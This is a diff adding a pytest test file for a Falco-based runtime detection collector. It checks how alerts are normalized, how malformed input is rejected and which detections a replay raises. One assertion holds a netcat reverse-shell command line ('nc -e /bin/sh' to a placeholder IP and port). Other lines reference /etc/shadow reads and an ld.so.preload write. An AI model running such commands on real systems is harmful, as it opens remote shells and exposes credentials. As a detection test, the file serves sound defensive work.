@@ -1,0 +1,197 @@
+"""The Falco source on alerts of Falco's stock rules and an inventory of normal activity (tests/data/falco), on the
+field conventions of Falco's JSON output, and on bad input; ``vigil replay`` and ``vigil collect file`` as run."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import orjson
+import pytest
+
+from collectors.falco import FALCO_SOURCE
+from collectors.falco.records import falco_record
+from collectors.source import RecordRejected, Rejected
+from vigil import kafka
+from vigil.event import Event
+
+REPO = Path(__file__).resolve().parents[2]
+DATA = REPO / "tests" / "data" / "falco"
+ATTACKS = DATA / "attacks.jsonl"
+BENIGN = DATA / "benign.jsonl"
+VIGIL = Path(sys.executable).parent / "vigil"
+LIMIT = 1 << 20
+
+
+def events(path: Path) -> list[Event]:
+    found = []
+    for line in path.read_bytes().splitlines():
+        (record,) = FALCO_SOURCE.split(line, LIMIT)
+        assert not isinstance(record, Rejected), record
+        found.append(FALCO_SOURCE.normalize(record, "test-cluster", "collector-node"))
+    return found
+
+
+def normalize(record: dict) -> Event:
+    return FALCO_SOURCE.normalize(record, "test-cluster", "collector-node")
+
+
+def test_stock_rule_alerts_map_to_the_syscall_they_fired_on() -> None:
+    found = events(ATTACKS)
+
+    assert [(e.kind, e.action) for e in found] == [
+        ("process.exec", "execve"), ("file.open", "openat"), ("file.open", "openat"), ("file.write", "openat"),
+        ("process.exec", "execve"), ("process.exec", "execve"), ("process.exec", "execve"),
+        ("net.connect", "connect"), ("kernel.module_load", "finit_module"), ("process.ptrace", "attach"),
+        ("file.write", "openat"), ("process.exec", "execve"), ("process.ns_change", "setns"),
+        ("process.exec", "execve"), ("process.exec", "execve"), ("file.write", "openat"),
+    ]
+    shell = found[0]
+    assert (shell.source, shell.cluster, shell.node) == ("falco", "test-cluster", "node-1")
+    assert (shell.k8s.namespace, shell.k8s.pod, shell.k8s.container_id) == ("shop", "api-7c4d9f8b5-k8m2p",
+                                                                             "c41d0a9e8b77")
+    assert shell.k8s.image == "ghcr.io/acme/api:2.4.1"
+    assert (shell.actor.exe, shell.actor.args, shell.actor.pid, shell.actor.uid) == ("/bin/bash", ["bash"], 40101, 0)
+    assert shell.actor.parent_exe == "runc"
+    assert shell.time_ns == 1741079400223456789
+    assert found[6].actor.args == ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]
+    assert (found[7].target.address, found[7].target.port, found[7].outcome.result) == ("198.51.100.20", 3333,
+                                                                                        "failure")
+    assert found[1].target.path == "/etc/shadow" and found[3].target.path == "/etc/ld.so.preload"
+    assert (found[9].target.resource, found[12].target.resource) == ("processes", "namespaces")
+    assert found[15].target.path == "/host/etc/kubernetes/manifests/kube-proxy-x.yaml"
+    assert len({e.id for e in found}) == len(found)
+
+
+def test_normal_activity_inventory() -> None:
+    found = events(BENIGN)
+
+    assert [e.kind for e in found] == [
+        "process.exec", "net.listen", "net.accept", "file.write", "process.exec", "process.exec", "net.connect",
+        "file.open", "file.open", "net.connect", "process.exec", "process.exit", "net.connect", "file.open",
+    ]
+    listen, accept, connect = found[1], found[2], found[6]
+    assert (listen.target.address, listen.target.port) == ("0.0.0.0", 8080)
+    assert (accept.target.address, accept.target.port) == ("10.244.2.7", 51234)
+    assert (connect.target.address, connect.target.port) == ("10.96.0.30", 5432)
+    assert found[4].actor.args == ["/bin/sh", "-c", "gunicorn", "--bind", "0.0.0.0:9000", "app:app"]
+    kubelet = found[12]
+    assert (kubelet.k8s.container_id, kubelet.k8s.pod, kubelet.k8s.namespace) == ("", "", "")
+    assert kubelet.correlation_key == "test-cluster/~"
+
+
+def test_falco_field_conventions() -> None:
+    record = falco_record(
+        "Custom rule", "execve",
+        {"proc.exepath": "<NA>", "proc.exe": None, "proc.name": "app", "proc.cmdline": "app --serve",
+         "k8s.pod.labels": "(app:web, tier:front)", "k8s.pod.uid": "8d1c", "container.full_id": "f" * 64,
+         "container.image": "registry.example/app:1.0", "proc.pid": "42", "user.uid": "<NA>"},
+    )
+    record["uuid"] = "0b6c1f0e-9a3b-4c7d-8e2f-1a2b3c4d5e6f"
+    event = normalize(record)
+
+    assert event.actor.exe == "app" and event.actor.args == ["app", "--serve"]
+    assert (event.actor.pid, event.actor.uid) == (42, -1)
+    assert event.k8s.labels == {"app": "web", "tier": "front"} and event.k8s.pod_uid == "8d1c"
+    assert event.k8s.container_id == "f" * 64 and event.k8s.image == "registry.example/app:1.0"
+    assert event.original_id == record["uuid"]
+    assert normalize(orjson.loads(orjson.dumps(record))).id == event.id
+
+    del record["time"]
+    assert normalize(record).time_ns == record["output_fields"]["evt.time"]
+    record["output_fields"]["k8s.pod.labels"] = ["app:web", "pod-template-hash:5d8f"]
+    assert normalize(record).k8s.labels == {"app": "web", "pod-template-hash": "5d8f"}
+    record["output_fields"]["k8s.pod.labels"] = "foo1:bar1,foo2:bar2"
+    assert normalize(record).k8s.labels == {"foo1": "bar1", "foo2": "bar2"}
+
+
+def test_open_flags_decide_read_or_write_and_unknown_syscalls_stay_syscalls() -> None:
+    def kind(evt_type: str, fields: dict) -> str:
+        return normalize(falco_record("r", evt_type, {"fd.name": "/etc/x", **fields})).kind
+
+    assert kind("openat", {"evt.arg.flags": "O_RDWR"}) == "file.write"
+    assert kind("openat", {"evt.arg.flags": "O_RDONLY|O_CLOEXEC"}) == "file.open"
+    assert kind("openat", {"evt.is_open_write": False, "evt.arg.flags": "O_RDWR"}) == "file.open"
+    assert kind("renameat2", {}) == "file.write"
+    assert kind("dup2", {}) == "process.syscall"
+    record = falco_record("Old rule output", "execve", {})
+    del record["output_fields"]["evt.type"]
+    assert (normalize(record).kind, normalize(record).action) == ("process.syscall", "")
+
+
+def test_key_is_the_correlation_key() -> None:
+    for path in (ATTACKS, BENIGN):
+        for line in path.read_bytes().splitlines():
+            (record,) = FALCO_SOURCE.split(line, LIMIT)
+            assert FALCO_SOURCE.key(record, "test-cluster") == normalize(record).correlation_key
+
+
+K8S_AUDIT_ALERT = orjson.dumps({
+    "output": "K8s Secret Deleted", "priority": "Informational", "rule": "K8s Secret Deleted", "source": "k8s_audit",
+    "time": "2025-03-04T06:22:18.819232Z", "output_fields": {"ka.user.name": "alice"},
+})
+
+
+@pytest.mark.parametrize(
+    ("payload", "reason"),
+    [
+        (b"\xc3\x28", "invalid_utf8"),
+        (b"{\"rule\": ", "not_json"),
+        (b'{"rule": "' + b"x" * LIMIT + b'"}', "too_large"),
+        (b"[true]", "wrong_kind"),
+        (K8S_AUDIT_ALERT, "wrong_kind"),
+        (b'{"rule": "r", "time": "2025-03-04T06:22:18Z"}', "missing_field"),
+        (b'{"rule": 7, "time": "2025-03-04T06:22:18Z", "output_fields": {}}', "missing_field"),
+        (b'{"rule": "r", "time": "03/04/2025", "output_fields": {}}', "missing_field"),
+        (b'{"rule": "r", "output_fields": {"evt.time": "soon"}}', "missing_field"),
+    ],
+)
+def test_bad_input_is_rejected_with_a_reason(payload: bytes, reason: str) -> None:
+    (rejected,) = FALCO_SOURCE.split(payload, LIMIT)
+
+    assert isinstance(rejected, Rejected) and rejected.reason == reason, rejected
+    with pytest.raises(RecordRejected):
+        normalize({"rule": "r", "source": "aws_cloudtrail", "output_fields": {}})
+
+
+def vigil(*args: str | Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([str(VIGIL), *map(str, args)], capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "VIGIL_CLUSTER": "replay-test", **(env or {})})
+
+
+def test_vigil_replay_raises_the_runtime_detections_on_stock_rule_alerts() -> None:
+    result = vigil("replay", "--source", "falco", ATTACKS, BENIGN)
+
+    assert result.returncode == 0, result.stderr
+    assert "30 records" in result.stderr and "0 rejected" in result.stderr
+    alerts = [orjson.loads(line) for line in result.stdout.splitlines()]
+    assert sorted({a["detection"] for a in alerts}) == [
+        "runtime.container_drift", "runtime.container_escape_write", "runtime.crypto_miner",
+        "runtime.etc_write_in_container", "runtime.exec_from_tmp", "runtime.host_mount_in_container",
+        "runtime.kernel_module_load", "runtime.nsenter_host_namespaces", "runtime.package_manager_in_container",
+        "runtime.ptrace_in_container", "runtime.reverse_shell", "runtime.sensitive_file_read",
+        "runtime.shell_in_container", "runtime.ssh_from_container", "runtime.static_pod_manifest_write",
+    ]
+    assert all(a["pod"] == "api-7c4d9f8b5-k8m2p" and a["cluster"] == "replay-test" for a in alerts)
+
+
+@pytest.mark.integration
+async def test_vigil_collect_file_ships_alerts_and_dead_letters_other_sources(settings) -> None:
+    await kafka.ensure_topics(settings)
+    output = Path(settings.data_dir) / "falco.jsonl"
+    output.parent.mkdir(parents=True, exist_ok=True)
+    output.write_bytes(ATTACKS.read_bytes() + K8S_AUDIT_ALERT + b"\n")
+    env = {"VIGIL_KAFKA_TOPIC_PREFIX": settings.kafka.topic_prefix, "VIGIL_DATA_DIR": settings.data_dir}
+
+    result = vigil("collect", "file", "--source", "falco", "--file", output, "--once", env=env)
+    assert result.returncode == 0, result.stderr
+    shipped = vigil("stream", "tail", "raw.falco", "--since", "1h", "--max", "16", "--timeout", "30", env=env)
+    dead = vigil("stream", "tail", "deadletter", "--since", "1h", "--max", "1", "--timeout", "30", env=env)
+
+    assert sorted(orjson.loads(line)["time"] for line in shipped.stdout.splitlines()) == sorted(
+        orjson.loads(line)["time"] for line in ATTACKS.read_bytes().splitlines()
+    )
+    (refused,) = [orjson.loads(line) for line in dead.stdout.splitlines()]
+    assert (refused["source"], refused["reason"]) == ("falco", "wrong_kind")
